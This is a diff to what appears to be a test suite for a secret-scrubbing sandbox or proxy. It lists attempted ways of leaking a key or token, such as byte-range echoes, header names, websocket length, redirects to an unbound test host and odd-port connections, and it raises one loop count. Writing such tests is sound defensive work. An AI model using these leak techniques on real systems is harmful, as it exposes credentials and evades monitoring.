@@ -217,7 +217,7 @@ ATTEMPTS = {
     "secret_echoed_in_parts": ("hidden", "print(b''.join(body(get('/echo-key', 'api.test', KEY, 'Range: bytes=%d-%d' % (i, i)))[:1] for i in range(30)))"),
     "secret_echoed_as_a_headers_name": ("names", "print(get('/echo-name', 'api.test', 'X-Key: ' + TOKEN))"),
     "secret_s_length_by_websocket": ("scrub", "print('THROUGH' if len(frame_of_key()) == LENGTH else '')"),
-    "secret_guessed": ("guessing", "print('THROUGH' if [CANARY.encode() in get('/echo-key', 'api.test', KEY) for i in range(100)][-1] else '')"),
+    "secret_guessed": ("guessing", "print('THROUGH' if [CANARY.encode() in get('/echo-key', 'api.test', KEY) for i in range(300)][-1] else '')"),
     "secret_by_redirect": ("scrub", "d=get('/redirect', 'api.test', KEY); l=[x.split(None,1)[1] for x in d.split(b'\\r\\n') if x.lower().startswith(b'location:')][0].decode(); get('/' + l.split('/', 3)[3], 'unbound.test')"),
     # odd ports, other sandboxes, waiting
     "odd_port": ("policy", "[connect('web.test:%d' % p) for p in (1, 22, 25, PREY, 65535)]"),
